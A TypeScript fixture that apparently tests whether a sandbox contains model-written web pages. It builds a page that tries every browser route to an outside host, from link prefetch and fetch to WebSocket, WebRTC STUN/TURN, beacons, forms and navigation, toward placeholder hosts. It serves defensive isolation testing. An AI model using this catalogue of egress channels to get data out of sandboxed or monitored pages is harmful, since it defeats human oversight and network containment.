/** Runs in a page, and tries every way to reach another machine. The host's name identifies the way. Returns how many. */
export function tryEveryWayOut(): number {
  let ways = 0;
  const at = (how: string, scheme = "https"): string => {
    ways++;
    return `${scheme}://${how}.attempt.example/`;
  };
  const add = (tag: string, attributes: Record<string, string>, text = ""): HTMLElement => {
    const element = Object.assign(document.createElement(tag), { textContent: text });
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const links = [
    "dns-prefetch",
    "preconnect",
    "prefetch",
    "prerender",
    "modulepreload",
    "icon",
    "manifest",
    "stylesheet",
  ];
  for (const rel of links) document.head.append(Object.assign(document.createElement("link"), { rel, href: at(rel) }));
  for (const rel of ["preconnect", "prefetch"])
    document.head.append(Object.assign(document.createElement("link"), { rel, href: "http://203.0.113.42/" }));
  for (const tag of ["img", "iframe", "embed", "script", "video", "audio", "track", "source"])
    add(tag, { src: at(tag) });
  add("object", { data: at("object") });
  add("iframe", { srcdoc: `<img src="${at("frame-in-frame")}">` });
  add("style", {}, `@import "${at("css-import")}"; body::after { content: url(${at("css-url")}); }`);
  const rules = {
    prefetch: [{ urls: [at("speculation-prefetch")] }],
    prerender: [{ urls: [at("speculation-prerender")] }],
  };
  add("script", { type: "speculationrules" }, JSON.stringify(rules));
  add("a", { href: "#/chat", ping: at("ping") }).click();
  add("a", { href: at("link") }).click();
  add("a", { href: at("download"), download: "x" }).click();
  const form = add("form", { action: at("form"), method: "post" }) as HTMLFormElement;
  form.submit();
  add("meta", { "http-equiv": "refresh", content: `0;url=${at("refresh")}` });
  window.open(at("window"));
  navigator.sendBeacon(at("beacon"), "x");

  const attempts: (() => unknown)[] = [
    () => fetch(at("fetch")),
    () => {
      const request = new XMLHttpRequest();
      request.open("POST", at("xhr"));
      request.send("x");
    },
    () => fetch(at("no-cors"), { mode: "no-cors", keepalive: true }),
    () => new WebSocket(at("websocket", "wss")),
    () => new EventSource(at("event-source")),
    () => new WebTransport(at("web-transport")).ready,
    () => new Worker(at("worker")),
    () => new SharedWorker(at("shared-worker")),
    () => navigator.serviceWorker.register(at("service-worker")),
    () => new FontFace("x", `url(${at("font")})`).load(),
    () => new Audio(at("audio-object")).play(),
    () => import(/* @vite-ignore */ at("import")),
    () => navigator.geolocation.getCurrentPosition(() => undefined),
    async () => {
      const servers = [
        "stun:stun.attempt.example",
        "stun:203.0.113.40",
        "turn:turn.attempt.example?transport=tcp",
        "turn:203.0.113.41?transport=tcp",
      ];
      const iceServers = servers.map((urls) => ({ urls, username: "x", credential: "x" }));
      const connection = new RTCPeerConnection({ iceServers });
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
    },
    () => {
      location.href = at("location");
    },
  ];
  for (const attempt of attempts) {
    try {
      void Promise.resolve(attempt()).catch(() => undefined);
    } catch {
      // Refused at once.
    }
  }
  const last = at("leaving");
  window.addEventListener("pagehide", () => navigator.sendBeacon(last, "x"));
  return ways;
}

/** By then, Chromium has begun whatever it does: it resolves names and connects within milliseconds, in other processes. */
const settleMs = 2_000;

/** A page as a model could write it, which tries every way out, says so in its console as an error, and ends itself. */
export const escapingPage = `<!doctype html>
<html>
<head><title>Every way out</title></head>
<body>
<h1>Every way out</h1>
<script>
${String(tryEveryWayOut)}
const ways = tryEveryWayOut();
setTimeout(() => {
  console.error("Tried " + ways + " ways out.");
  setTimeout(close, 500);
}, ${settleMs});
</script>
</body>
</html>
`;
